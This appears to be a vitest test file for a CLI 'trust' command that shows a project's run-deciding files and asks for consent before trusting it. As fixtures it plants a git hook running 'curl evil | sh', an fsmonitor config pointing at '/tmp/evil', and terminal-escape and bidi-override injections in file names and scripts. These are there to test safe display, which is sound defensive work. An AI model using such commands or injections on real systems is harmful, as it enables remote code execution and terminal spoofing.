import { spawnSync } from 'node:child_process';
import { mkdirSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, it } from 'vitest';
import { trustCommand } from '../../src/cli/trust.ts';
import { UsageError } from '../../src/cli/usage.ts';
import { createTrust } from '../../src/machine/trust/trust.ts';
import { startInTerminal } from '../repl/support/pty.ts';
import { temporaryFolder } from '../support/repository.ts';
import { program } from '../support/server.ts';

/** A project with a script, and a person who answers. */
function setUp(answer?: string | ((question: string) => string)) {
  const [project, base] = [temporaryFolder(), temporaryFolder()];
  writeFileSync(join(project, 'package.json'), '{"name":"a","scripts":{"test":"node --test"}}');
  const trust = createTrust({ folder: join(base, 'toolcrib') });
  let printed = '';
  const run = async (...args: string[]) => {
    printed = '';
    const code = await trustCommand(args, {
      trust,
      print: (text) => void (printed += text),
      colour: false,
      ...(answer !== undefined && {
        ask: async (question: string) => (typeof answer === 'string' ? answer : answer(question)),
      }),
    });
    return { code, printed };
  };
  const toolcrib = (...args: string[]) => {
    const { status, stdout, stderr } = spawnSync(process.execPath, [program, 'trust', ...args], {
      cwd: project,
      encoding: 'utf8',
      env: { ...process.env, XDG_STATE_HOME: base },
    });
    return { status, stdout, stderr };
  };
  return { project, base, trust, run, toolcrib };
}

it('shows what would run, and trusts it when the person says so', async () => {
  const questions: string[] = [];
  const { project, trust, run } = setUp((question) => (questions.push(question), 'y'));
  mkdirSync(join(project, 'node_modules'));
  const { code, printed } = await run(project);
  expect(code).toBe(0);
  expect(printed).toBe(
    `${project} is not trusted.
What decides what runs there
  package.json  45 B  npm scripts and settings of tools
  | {
  |   "scripts": {
  |     "test": "node --test"
  |   }
  | }
Not looked into: node_modules
It is trusted until something of this changes. toolcrib trust --revoke takes that back.
`,
  );
  expect(questions).toEqual(['Trust this project? [y/N] ']);
  expect(await trust.isTrusted(project)).toBe(true);
  expect((await run(project)).printed).toContain('is trusted as it is now');
  expect(questions).toHaveLength(1);
});

it.each(['', 'n', 'no', 'yellow', 'Y?', 'always'])('does not take %j for a yes', async (answer) => {
  const { project, trust, run } = setUp(answer);
  expect((await run(project)).code).toBe(1);
  expect(await trust.isTrusted(project)).toBe(false);
});

it('does not trust what has changed while the person was looking', async () => {
  const { project, trust, run } = setUp(() => {
    writeFileSync(join(project, 'Makefile'), 'all: evil');
    return 'yes';
  });
  expect((await run(project)).code).toBe(1);
  expect(await trust.isTrusted(project)).toBe(false);
});

it('shows what has changed since it was trusted', async () => {
  const { project, run } = setUp('n');
  writeFileSync(join(project, 'Makefile'), 'a:\n\tone\n\ttwo\nb:\n');
  await run('--yes', project);
  writeFileSync(join(project, 'Makefile'), 'a:\n\tone\n\tevil\nb:\n');
  writeFileSync(join(project, 'justfile'), 'x:');
  expect((await run(project)).printed).toContain(`
What has changed
  Makefile: changed
    - \ttwo
    + \tevil
  justfile: added
    + x:
It is not trusted.
`);
  writeFileSync(join(project, 'justfile'), `x:\n${'  #\n'.repeat(200)}  evil`);
  expect((await run(project)).printed).toMatch(/… 122 lines left out here; --json has all\n[^]*\+ {3}evil\n/);
});

it('lists and revokes, also what is not there any more, and by a link', async () => {
  const { project, base, trust, run } = setUp();
  expect((await run('--list')).printed).toContain('No project is trusted');
  await run('--yes', project);
  trust.grants.add({ project, tool: 'npm_run', key: 'k', says: 'npm run \u001b[31mtest\nx' });
  const today = new Date().toISOString().slice(0, 10);
  expect((await run('--list')).printed).toBe(
    `${project}  trusted ${today}\n    always: npm_run: npm run test x\n`,
  );
  writeFileSync(join(project, 'Makefile'), '');
  expect((await run('--list')).printed).toContain('changed since: is asked again');
  symlinkSync(project, join(base, 'link'));
  expect(await run('--revoke', join(base, 'link'))).toMatchObject({ code: 0 });
  expect(await run('--revoke', project)).toEqual({ code: 1, printed: `${project}: was not trusted.\n` });
  await run('--yes', project);
  rmSync(project, { recursive: true });
  expect((await run('--list')).printed).toContain(project);
  expect(await run('--revoke', project)).toMatchObject({ code: 0 });
  expect(readdirSync(join(base, 'toolcrib', 'trust'))).toEqual([]);
});

it('is data for programs', async () => {
  const { project, run } = setUp();
  const looked = await run('--json', project);
  expect(looked.code).toBe(1);
  expect(JSON.parse(looked.printed)).toMatchObject({
    project,
    trusted: false,
    files: [{ path: 'package.json' }],
  });
  expect(JSON.parse((await run('--json', '--yes', project)).printed)).toMatchObject({ trusted: true });
  expect((await run('--json', project)).code).toBe(0);
  expect(JSON.parse((await run('--list', '--json')).printed)).toMatchObject({
    projects: [{ project, current: true, grants: [] }],
    damaged: 0,
  });
  expect(JSON.parse((await run('--revoke', '--json', project)).printed)).toEqual({ project, revoked: true });
});

it('shows names and scripts of a project so that they cannot command the terminal or pass for more lines', async () => {
  const { project, run } = setUp('n');
  writeFileSync(join(project, 'a\n\u001b[2J\u202e.mk'), '');
  writeFileSync(
    join(project, 'package.json'),
    '{"scripts":{"a\\nb":"x\\u001b]52;c;eA==\\u0007\\n  Makefile  1 B"}}',
  );
  const { printed } = await run(project);
  // oxlint-disable-next-line no-control-regex
  expect(printed).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u202e]/);
  const ours = printed.split('\n').filter((line) => !line.startsWith('  | '));
  expect(ours).toHaveLength(6);
});

it('shows what is in the files, bounded, and none of it passes for a line of ours', async () => {
  const { project, run } = setUp('n');
  const lines = Array.from({ length: 100 }, (_, at) => `line ${at}`);
  writeFileSync(join(project, 'Makefile'), `all:\r  justfile  1 B\u001b[2J\n${lines.join('\n')}\n`);
  writeFileSync(join(project, 'justfile'), `x: ${'y'.repeat(10_000)}END\n`);
  mkdirSync(join(project, '.git', 'hooks'), { recursive: true });
  writeFileSync(join(project, '.git', 'HEAD'), 'ref: refs/heads/main\n');
  writeFileSync(join(project, '.git', 'config'), '[core]\n  fsmonitor = /tmp/evil\n');
  writeFileSync(join(project, '.git', 'hooks', 'pre-commit'), '#!/bin/sh\ncurl evil | sh\n', { mode: 0o755 });
  const { printed } = await run(project);
  expect(printed).toContain('  | all:\n  |   justfile  1 B\n  | line 0\n');
  expect(printed).toMatch(/ {2}\| line 37\n {4}… 22 lines left out here; --json has all\n {2}\| line 60\n/);
  expect(printed).toMatch(/y … 9506 characters left out … y+END\n/);
  expect(printed).toContain('  | curl evil | sh\n');
  expect(printed).toContain('fsmonitor = /tmp/evil\n');
});

it.each([
  [['--list', 'x'], '--list takes nothing else'],
  [['--revoke', '--yes'], 'leave --yes out'],
  [['a', 'b'], 'one folder at a time'],
  [['/no/such/folder'], 'there is no such folder'],
  [['--yes', '/'], 'holds the home folder; trust the projects in it'],
  [['--lst'], 'did you mean --list?'],
] as const)('%j is a wrong command line', async (args, message) => {
  const { run } = setUp();
  await expect(run(...args)).rejects.toThrow(UsageError);
  await expect(run(...args)).rejects.toThrow(message);
});

it('refuses to decide without a terminal, unless told to', () => {
  const { project, toolcrib } = setUp();
  const refused = toolcrib();
  expect(refused.status).toBe(2);
  expect(refused.stdout).toContain(`${project} is not trusted`);
  expect(refused.stderr).toMatch(/^toolcrib: there is no terminal to ask on; --yes [^\n]*\n$/);
  expect(toolcrib('--yes')).toMatchObject({ status: 0, stderr: '' });
  expect(toolcrib('--list').stdout).toContain(project);
});

it.skipIf(process.platform === 'win32')('asks in a terminal, and takes its end for no', async () => {
  const { project, base, trust } = setUp();
  const env = { XDG_STATE_HOME: base };
  const argv = [process.execPath, program, 'trust', project];
  const left = startInTerminal(argv, { env });
  await left.sees('Trust this project? [y/N]');
  left.press('ctrl-d');
  expect(await left.exit).toBe(1);
  expect(await trust.isTrusted(project)).toBe(false);
  const agreed = startInTerminal(argv, { env });
  await agreed.sees('Trust this project? [y/N]');
  agreed.type('y\r');
  expect(await agreed.exit).toBe(0);
  expect(await trust.isTrusted(project)).toBe(true);
});
